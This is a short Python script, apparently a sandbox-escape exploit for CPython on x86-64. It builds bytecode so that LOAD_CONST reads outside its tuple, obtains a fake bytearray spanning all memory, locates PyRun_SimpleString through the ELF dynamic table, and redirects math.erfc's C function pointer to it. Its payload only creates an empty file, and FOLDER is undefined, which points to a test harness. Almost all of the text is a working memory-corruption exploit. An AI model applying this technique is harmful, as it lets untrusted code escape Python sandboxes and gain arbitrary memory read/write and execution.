# Reads a constant far outside its tuple, gets a made-up bytearray over all memory, and bends math.erfc to C code.
# Machine: x86-64
import dis
import math
import struct

image = struct.pack("QQQQQQQ", 9, id(bytearray), 2**63 - 1, 0, 0, 0, 0)
slot = struct.pack("Q", id(image) + 32)
constants = (None, 1)
number = ((id(slot) + 32 - id(constants) - 24) // 8 & 0xFFFFFFFF).to_bytes(4, "big")
ops, more = dis.opmap, dis.opmap["EXTENDED_ARG"]
body = (ops["RESUME"], 0, more, number[0], more, number[1], more, number[2], ops["LOAD_CONST"], number[3])
code = (lambda: None).__code__.replace(co_consts=constants, co_code=bytes(body + (ops["RETURN_VALUE"], 0)))
memory = type(lambda: None)(code, {})()


def word(address):
    return int.from_bytes(memory[address : address + 8], "little")


base = word(word(id(len) + 16) + 8) & ~0xFFF
while memory[base : base + 4] != b"\x7fELF":
    base -= 4096
heads = [base + word(base + 32) + 56 * n for n in range(word(base + 56) & 0xFFFF)]
dynamic = base + next(word(head + 16) for head in heads if word(head) & 0xFFFFFFFF == 2)
table = {word(place): word(place + 8) for place in range(dynamic, dynamic + 480, 16)}
symbol, wanted = table[6], b"PyRun_SimpleString\0"
name = base
while memory[name : name + len(wanted)] != wanted:
    symbol += 24
    name = table[5] + (word(symbol) & 0xFFFFFFFF)
line = ("open(" + repr(FOLDER + "/bent.txt") + ", 'w').close()").encode()
method = word(id(math.erfc) + 16) + 8
memory[id(math.erfc) + 24 : id(math.erfc) + 32] = struct.pack("Q", id(line) + 32)
memory[method : method + 8] = struct.pack("Q", base + word(symbol + 8))
# The process breaks right afterwards, because the answer of the C function is no object.
math.erfc(0)
